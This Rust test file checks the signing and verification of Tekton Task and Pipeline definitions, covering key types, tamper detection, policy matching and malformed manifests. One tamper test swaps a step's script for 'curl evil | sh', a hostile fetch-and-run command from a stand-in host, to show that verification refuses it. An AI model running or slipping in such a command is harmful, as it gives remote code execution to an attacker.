//! Signing, then verifying with keys and by policies.

use serde_json::json;

use super::*;

const TASK: &str = "\
# For the tutorial.
apiVersion: tekton.dev/v1
kind: Task
metadata:
  name: hello # said to all
  labels: {team: docs}
spec:
  params:
    - name: who   # no type: admission infers it
  steps:
    - image: busybox
      script: |
        echo $(params.who)
---
apiVersion: v1
kind: ConfigMap
metadata: {name: other}
---
apiVersion: tekton.dev/v1beta1
kind: Pipeline
metadata:
  name: both
  annotations:
    tekton.dev/signature: c3RhbGU=
    note: kept
spec:
  tasks: [{name: one, taskRef: {name: hello}}]
";

const KEYS: [(&str, &[u8], &[u8]); 2] = [
    ("p256", include_bytes!("../testdata/p256.key"), include_bytes!("../testdata/p256.pub")),
    ("ed25519", include_bytes!("../testdata/ed25519.key"), include_bytes!("../testdata/ed25519.pub")),
];

fn signed(key: &[u8]) -> Signed {
    sign(TASK, &SigningKey::from_pem(key).expect("a key"), &Config::default()).expect("it can be signed")
}

fn refusals(verdicts: Vec<Verdict>) -> Vec<Option<String>> {
    verdicts.into_iter().map(|verdict| verdict.refused).collect()
}

#[test]
fn each_definition_is_signed_and_nothing_else_changes() {
    for (name, private, public) in KEYS {
        let signed = signed(private);
        assert_eq!(signed.definitions, ["Task hello", "Pipeline both"], "{name}");
        let without: Vec<&str> = signed.text.lines().filter(|line| !line.contains("tekton.dev/signature")).collect();
        let before: Vec<&str> = TASK.lines().filter(|line| !line.contains("tekton.dev/signature")).collect();
        let without = without.join("\n").replacen("  annotations:\n", "", 1);
        assert_eq!(without, before.join("\n"), "{name}");
        let keys = [(PublicKey::from_pem(public, Hash::Sha256).expect(name), Hash::Sha256)];
        let verdicts = verify(&signed.text, &keys, &Config::default()).expect(name);
        assert_eq!(refusals(verdicts), [None, None], "{name}");
    }
}

#[test]
fn a_definition_that_was_changed_or_never_signed_is_refused() {
    let (_, private, public) = KEYS[0];
    let keys = [(PublicKey::from_pem(public, Hash::Sha256).expect("a key"), Hash::Sha256)];
    let changed = signed(private).text.replace("echo $(params.who)", "curl evil | sh");
    let verdicts = refusals(verify(&changed, &keys, &Config::default()).expect("it can be read"));
    assert!(verdicts[0].as_deref().is_some_and(|text| text.contains("has changed")), "{verdicts:?}");
    assert_eq!(verdicts[1], None);
    let verdicts = refusals(verify(TASK, &keys, &Config::default()).expect("it can be read"));
    assert!(verdicts[0].as_deref().is_some_and(|text| text.contains("no annotation")), "{verdicts:?}");
    assert!(verdicts[1].is_some(), "a stale signature");
}

#[test]
fn the_controller_takes_what_was_signed_here_by_the_policy_that_covers_its_source() {
    let (_, private, public) = KEYS[0];
    let text = signed(private).text;
    let policy = |key: serde_json::Value| -> VerificationPolicy {
        serde_json::from_value(json!({
            "metadata": {"name": "p", "namespace": "default"},
            "spec": {"resources": [{"pattern": "https://good/.*"}], "authorities": [{"name": "a", "key": key}]},
        }))
        .expect("a policy")
    };
    let pem = String::from_utf8(public.to_vec()).expect("PEM is text");
    let secret: Secret = serde_json::from_value(
        json!({"metadata": {"name": "keys"}, "data": {"k": base64::encode(public, Padding::Required)}}),
    )
    .expect("a Secret");
    let by_data = Policies { policies: vec![policy(json!({"data": pem}))], secrets: Vec::new() };
    let in_secret = json!({"secretRef": {"name": "keys", "namespace": "default"}});
    let by_secret = Policies { policies: vec![policy(in_secret.clone())], secrets: vec![secret] };
    for policies in [&by_data, &by_secret] {
        let verdicts = verify_by_policy(&text, policies, "https://good/catalog", &Config::default());
        assert_eq!(refusals(verdicts.expect("it can be read")), [None, None]);
    }
    let elsewhere = verify_by_policy(&text, &by_data, "https://bad/", &Config::default()).expect("it can be read");
    assert!(refusals(elsewhere)[0].as_deref().is_some_and(|text| text.contains("https://bad/")));
    let no_secret = Policies { policies: vec![policy(in_secret)], secrets: Vec::new() };
    let verdicts = verify_by_policy(&text, &no_secret, "https://good/x", &Config::default()).expect("it can be read");
    assert!(refusals(verdicts)[0].as_deref().is_some_and(|text| text.contains("secret not found")));
}

#[test]
fn what_a_controller_would_not_read_is_not_signed() {
    let key = SigningKey::from_pem(KEYS[0].1).expect("a key");
    let misspelt = TASK.replace("  steps:", "  stebs:");
    let fault = sign(&misspelt, &key, &Config::default()).expect_err("there is no such field");
    assert!(matches!(fault, ManifestFault::Definition { line: 10, .. }), "{fault:?}");
    let fault = sign("kind: ConfigMap\n", &key, &Config::default()).expect_err("it carries no signature");
    assert_eq!(fault, ManifestFault::NothingToSign);
}
